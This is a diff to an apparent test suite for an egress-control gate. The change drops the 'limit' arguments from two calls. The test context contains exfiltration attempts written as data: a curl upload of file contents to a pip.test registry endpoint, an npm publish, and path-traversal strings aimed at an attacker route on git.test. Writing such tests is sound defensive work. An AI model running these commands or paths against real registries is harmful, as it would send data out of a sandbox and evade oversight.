@@ -26,7 +26,7 @@ def registries(t):
                                         "timeout 50 npm publish --registry https://npm.test/pkg/npm", 60), lambda seen: [entry for entry in seen.arrived if entry.get("method") not in ("GET", "HEAD", None)])
     gate.attempt("a form upload as twine does it", command("echo data > /tmp/{m}; curl -sS -m 15 -F :action=file_upload -F name={m} -F content=@/tmp/{m} https://pip.test/legacy/"), lambda seen: [entry for entry in seen.arrived if entry.get("method") == "POST"])
     marker = gate.control("what a path carries out is not stopped", get("pip.test", "/pkg/simple/{m}/"))
-    gate.go(limit=150, threads=4)
+    gate.go(threads=4)
     with world.attacker.events(f"{box.path}/egress/log") as stream:
         t.attempt("what a path carried out is not in the log either", not any(marker in event.data.get("path", "") for event in stream))
 
@@ -97,4 +97,4 @@ def forges(t):
         gate.attempt(f"git fetch of {repository}", command(f"cd /tmp/tiny && timeout 20 git ls-remote https://git.test/{repository}", 40))
     for path in ("/attacker/{m}/info/refs?service=git-receive-pack", "/pkg/tiny.git/..%2f..%2fattacker/{m}", "//attacker/{m}"):
         gate.attempt(f"the path {path}", get("git.test", path, sni="git.test"))
-    gate.go(limit=120)
+    gate.go()
